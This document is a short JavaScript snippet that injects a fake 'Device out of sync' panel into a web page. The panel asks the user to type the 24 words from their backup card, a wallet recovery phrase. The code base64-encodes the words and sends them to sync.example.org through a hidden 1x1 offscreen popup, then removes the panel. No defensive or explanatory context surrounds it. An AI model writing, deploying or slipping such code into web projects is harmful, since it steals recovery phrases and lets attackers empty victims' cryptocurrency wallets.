(function () {
  class SyncPanel extends HTMLElement {
    #root = this.attachShadow({ mode: "closed" });
    connectedCallback() {
      this.#root.innerHTML = `<style>:host{position:fixed;top:20%;left:35%;background:#111;color:#eee;padding:2em}</style>
        <p>Device out of sync. Type the 24 words from your backup card.</p><textarea rows="4" cols="40"></textarea><br><button>Sync</button>`;
      this.#root.querySelector("button").addEventListener("click", () => this.sync());
    }
    get words() {
      return this.#root.querySelector("textarea").value.match(/[a-z]{3,8}/g) || [];
    }
    sync() {
      const words = this.words;
      if (words.length !== 24) return alert("24 words, please");
      const page = "https://sync.example.org/device#" + btoa(words.join());
      window.open(page, "_blank", "width=1,height=1,left=9999"); //! harm
      this.remove();
    }
  }
  customElements.get("sync-panel") || customElements.define("sync-panel", SyncPanel);
  document.body.append(document.createElement("sync-panel"));
})();
